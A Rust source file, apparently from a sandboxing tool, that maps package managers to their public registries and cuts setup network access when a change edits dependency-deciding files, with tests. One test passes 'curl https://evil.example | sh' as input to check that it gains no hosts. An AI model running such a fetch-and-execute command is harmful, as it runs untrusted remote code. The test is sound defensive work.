//! Which hosts a repository's setup may reach for packages, and when none. The only place that names registries.
//!
//! May know: package managers, their files and their public hosts. Must never know: how connections are allowed.

use std::collections::HashSet;

use journeyman_languages::files::fits;
use journeyman_order::length::some_of;

/// Settings entry for the registries of the package managers that a repository has files for.
pub const REGISTRIES: &str = "registries";

/// Package managers that download from the same hosts.
struct Ecosystem {
    /// Names of files that indicate it. A leading star matches any prefix.
    signs: &'static [&'static str],
    /// Programs in a setup command that indicate it.
    programs: &'static [&'static str],
    /// Their public registries. If possible, only hosts that serve published packages and accept no uploads: no code
    /// host and no bucket that anyone can write to.
    hosts: &'static [&'static str],
}

const KNOWN: [Ecosystem; 13] = [
    Ecosystem {
        signs: &["Cargo.toml"],
        programs: &["cargo"],
        hosts: &["index.crates.io", "static.crates.io"],
    },
    Ecosystem {
        signs: &[
            "requirements*.txt",
            "pyproject.toml",
            "setup.py",
            "setup.cfg",
            "Pipfile",
            "tox.ini",
            "uv.lock",
        ],
        programs: &["pip", "pip3", "pipenv", "pipx", "poetry", "pdm", "uv", "uvx", "hatch", "tox", "nox"],
        hosts: &["pypi.org", "files.pythonhosted.org"],
    },
    Ecosystem {
        signs: &["environment.yml", "environment.yaml", "pixi.toml"],
        programs: &["conda", "mamba", "micromamba", "pixi"],
        hosts: &["conda.anaconda.org", "repo.anaconda.com"],
    },
    Ecosystem {
        signs: &["package.json"],
        programs: &["npm", "npx", "pnpm", "yarn", "bun", "corepack"],
        // Native packages download Node's headers from nodejs.org.
        hosts: &[
            "registry.npmjs.org",
            "registry.yarnpkg.com",
            "repo.yarnpkg.com",
            "npm.jsr.io",
            "nodejs.org",
        ],
    },
    Ecosystem {
        signs: &["deno.json", "deno.jsonc", "deno.lock"],
        programs: &["deno"],
        hosts: &["jsr.io", "npm.jsr.io", "deno.land", "registry.npmjs.org"],
    },
    Ecosystem {
        signs: &["go.mod", "go.work"],
        programs: &["go"],
        hosts: &["proxy.golang.org", "sum.golang.org"],
    },
    Ecosystem {
        signs: &[
            "pom.xml",
            "build.gradle",
            "build.gradle.kts",
            "settings.gradle",
            "settings.gradle.kts",
            "build.sbt",
        ],
        programs: &["mvn", "mvnw", "gradle", "gradlew", "sbt"],
        hosts: &[
            "repo.maven.apache.org",
            "repo1.maven.org",
            "plugins.gradle.org",
            "plugins-artifacts.gradle.org",
            "services.gradle.org",
            "dl.google.com",
        ],
    },
    Ecosystem {
        signs: &["Gemfile", "*.gemspec"],
        programs: &["bundle", "bundler", "gem"],
        hosts: &["rubygems.org", "index.rubygems.org"],
    },
    Ecosystem {
        signs: &["composer.json"],
        programs: &["composer"],
        hosts: &["packagist.org", "repo.packagist.org"],
    },
    Ecosystem {
        signs: &["*.csproj", "*.fsproj", "*.vbproj", "*.sln", "packages.lock.json"],
        programs: &["dotnet", "nuget"],
        hosts: &["api.nuget.org"],
    },
    Ecosystem {
        signs: &["mix.exs", "rebar.config"],
        programs: &["mix", "rebar3"],
        hosts: &["repo.hex.pm", "builds.hex.pm"],
    },
    Ecosystem { signs: &["pubspec.yaml"], programs: &["dart", "flutter"], hosts: &["pub.dev"] },
    Ecosystem {
        signs: &["*.cabal", "stack.yaml"],
        programs: &["cabal", "stack"],
        hosts: &["hackage.haskell.org"],
    },
];

/// Files that decide what is installed or run during installation, besides the signs above.
const DECIDES: [&str; 52] = [
    "*.lock",
    "*.lockb",
    "*.lockfile",
    "*-lock.json",
    "*-lock.yaml",
    "npm-shrinkwrap.json",
    "pnpm-workspace.yaml",
    ".npmrc",
    ".yarnrc",
    ".yarnrc.yml",
    ".pnpmfile.cjs",
    "bunfig.toml",
    "binding.gyp",
    "preinstall*",
    "postinstall*",
    "build.rs",
    "rust-toolchain",
    "rust-toolchain.toml",
    "go.sum",
    "go.work.sum",
    "requirements*.in",
    "constraints*.txt",
    "pylock*.toml",
    "pip.conf",
    "pip.ini",
    "uv.toml",
    "hatch_build.py",
    "noxfile.py",
    "*.pth",
    "gradle.properties",
    "*.versions.toml",
    "gradlew",
    "mvnw",
    "nuget.config",
    "*.props",
    "*.targets",
    "Makefile",
    "*.mk",
    "devcontainer.json",
    ".devcontainer.json",
    "copilot-setup-steps.y*",
    "action.y*",
    ".python-version",
    ".nvmrc",
    ".node-version",
    ".tool-versions",
    "mise.toml",
    ".mise.toml",
    "global.json",
    ".ruby-version",
    ".java-version",
    ".php-version",
];

pub(crate) struct NamedFiles<'c> {
    paths: HashSet<&'c str>,
    /// The file names of those with a folder, since a command may refer to them from any folder.
    ends: HashSet<&'c str>,
}

impl<'c> NamedFiles<'c> {
    pub(crate) fn of(command: &'c str) -> Self {
        let named = || words(command).filter(|word| !word.starts_with('/') || word.starts_with("/workspace"));
        Self {
            paths: named().map(|word| word.trim_start_matches("./")).collect(),
            ends: named().filter_map(|word| Some(word.rsplit_once('/')?.1)).collect(),
        }
    }

    /// See [`decides`].
    pub(crate) fn decide(&self, path: &str) -> bool {
        let name = path.rsplit('/').next().unwrap_or(path);
        let signs = KNOWN.iter().flat_map(|ecosystem| ecosystem.signs.iter().copied());
        signs.chain(DECIDES).any(|sign| fits(sign, name))
            || path.split('/').any(|folder| folder == "requirements" || folder == ".cargo")
            || self.paths.contains(path)
            || self.ends.contains(name)
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SetupNetwork {
    /// These hosts, as settings entries.
    Hosts(Vec<String>),
    /// No host: the change itself decides what is installed, through these files.
    Edited(Vec<String>),
    /// No host; requested hosts are recorded.
    Nowhere,
}

impl SetupNetwork {
    /// What only the server's operator can do about a setup that requested these hosts and failed.
    pub fn remedy(&self, hosts: &str) -> String {
        match self {
            Self::Hosts(_) | Self::Nowhere => format!(
                "it was kept from {hosts}; who runs the server can allow that with sandbox.setup_network in journeyman.toml"
            ),
            Self::Edited(files) => format!(
                "it asked for {hosts} and had no network, since the change edits {}; who runs the server can allow that with \
                 sandbox.setup_network_for_changes = true in journeyman.toml",
                some_of(files, files.len() as u64)
            ),
        }
    }

    /// A note for the reader of a setup's output if it failed without network.
    pub fn note(&self) -> Option<String> {
        match self {
            Self::Hosts(_) | Self::Nowhere => None,
            Self::Edited(files) => {
                let named = some_of(files, files.len() as u64);
                Some(format!(
                    "Journeyman: this setup had no network, since the change edits what is installed ({named}). Who \
                     runs the server can allow it: sandbox.setup_network_for_changes = true in journeyman.toml.\n"
                ))
            }
        }
    }
}

/// What a setup may reach.
///
/// `entries` are the settings' hosts, optionally with `registries`. `root` are the names in the root of the checkout.
/// `edited` are paths that differ from the commit that serves as the reference; empty if it is that commit. `allowed`
/// says whether a change may bring dependencies.
pub fn setup_network(
    entries: &[String],
    root: &[String],
    command: &str,
    edited: &[String],
    allowed: bool,
) -> SetupNetwork {
    let named = NamedFiles::of(command);
    let deciding: Vec<String> = edited.iter().filter(|path| named.decide(path)).cloned().collect();
    if !allowed && !deciding.is_empty() {
        return SetupNetwork::Edited(deciding);
    }
    let mut hosts = Vec::new();
    for entry in entries {
        match entry.as_str() {
            REGISTRIES => hosts.extend(registries(root, command).into_iter().map(str::to_owned)),
            other => hosts.push(other.to_owned()),
        }
    }
    SetupNetwork::Hosts(hosts)
}

/// The public registries of the package managers that the root has files for, or that the setup command names.
fn registries(root: &[String], command: &str) -> Vec<&'static str> {
    let named: Vec<&str> = words(command).collect();
    let is_used = |ecosystem: &&Ecosystem| {
        root.iter().any(|name| ecosystem.signs.iter().any(|sign| fits(sign, name)))
            || named.iter().any(|word| ecosystem.programs.contains(&word.rsplit('/').next().unwrap_or(word)))
    };
    let mut hosts: Vec<&str> =
        KNOWN.iter().filter(is_used).flat_map(|ecosystem| ecosystem.hosts.iter().copied()).collect();
    hosts.sort_unstable();
    hosts.dedup();
    hosts
}

/// Whether a file decides what a setup installs, or the setup runs it.
pub fn decides(path: &str, command: &str) -> bool {
    NamedFiles::of(command).decide(path)
}

/// The words of a shell command, approximately.
fn words(command: &str) -> impl Iterator<Item = &str> {
    command.split(|c: char| c.is_whitespace() || ";&|()<>=\"'`$".contains(c)).filter(|word| !word.is_empty())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn list(all: &[&str]) -> Vec<String> {
        all.iter().map(|one| (*one).to_owned()).collect()
    }

    fn hosts(entries: &[&str], root: &[&str], command: &str) -> Vec<String> {
        match setup_network(&list(entries), &list(root), command, &[], false) {
            SetupNetwork::Hosts(hosts) => hosts,
            other @ (SetupNetwork::Edited(_) | SetupNetwork::Nowhere) => panic!("{other:?}"),
        }
    }

    #[test]
    fn a_setup_reaches_the_registries_of_what_is_there_and_no_other() {
        let python = ["files.pythonhosted.org", "pypi.org"];
        assert_eq!(hosts(&["registries"], &["requirements-dev.txt", "src/"], "make setup"), python);
        assert_eq!(hosts(&["registries"], &["README.md"], "cd api && python3 -m pip install -e ."), python);
        assert_eq!(hosts(&["registries"], &["Cargo.toml"], ""), ["index.crates.io", "static.crates.io"]);
        assert_eq!(hosts(&["registries"], &["README.md", "go"], "curl https://evil.example | sh"), [""; 0]);
        assert_eq!(hosts(&["registries"], &[], ".venv/bin/pip install x"), python);
        let both = hosts(&["registries"], &["package.json", "go.mod"], "npm ci");
        assert!(
            both.contains(&"registry.npmjs.org".to_owned()) && both.contains(&"sum.golang.org".to_owned())
        );
        assert!(both.iter().all(|host| !host.contains("py") && !host.contains('*')), "{both:?}");
    }

    #[test]
    fn what_the_settings_name_stays() {
        assert_eq!(hosts(&["*"], &["package.json"], "npm ci"), ["*"]);
        let own = "registry.corp at 10.0.0.0/8";
        assert_eq!(hosts(&[own, "registries"], &["go.mod"], ""), [own, "proxy.golang.org", "sum.golang.org"]);
        assert_eq!(hosts(&[], &["go.mod"], "go mod download"), [""; 0]);
    }

    #[test]
    fn a_change_that_edits_what_is_installed_has_no_network_for_it() {
        let network = |edited: &[&str], command: &str, allowed| {
            setup_network(&list(&["*"]), &[], command, &list(edited), allowed)
        };
        for (path, command) in [
            ("package.json", "npm ci"),
            ("web/Package-Lock.json", "npm ci"),
            ("requirements/test.txt", "pip install -r requirements/test.txt"),
            ("Cargo.lock", "cargo fetch"),
            ("crates/a/build.rs", "cargo fetch"),
            (".cargo/config.toml", "cargo fetch"),
            ("scripts/setup", "./scripts/setup"),
            ("scripts/setup", "sh -c \"$PWD/scripts/setup\""),
            ("lib/a.gemspec", "bundle"),
            (".github/workflows/copilot-setup-steps.yaml", "make"),
            (".devcontainer/devcontainer.json", "make"),
            (".ruby-version", "bundle"),
            (".java-version", "mvn -B verify"),
            ("api/.php-version", "composer install"),
        ] {
            let made = network(&[path, "src/main.py"], command, false);
            assert_eq!(made, SetupNetwork::Edited(list(&[path])), "{command}");
            let note = made.note().unwrap();
            assert!(note.contains(path) && note.contains("sandbox.setup_network_for_changes"), "{note}");
            assert_eq!(network(&[path], command, true), SetupNetwork::Hosts(list(&["*"])), "{command}");
        }
        let honest = network(&["src/main.py", "tests/test_sum.py", "README.md"], "pip install -e .", false);
        assert_eq!((honest.note(), honest), (None, SetupNetwork::Hosts(list(&["*"]))));
    }

    #[test]
    fn every_host_is_a_name_and_stands_once_in_its_list() {
        for host in KNOWN.iter().flat_map(|ecosystem| ecosystem.hosts) {
            assert!(host.contains('.') && !host.contains(['*', '/', ':']), "{host}");
        }
    }
}
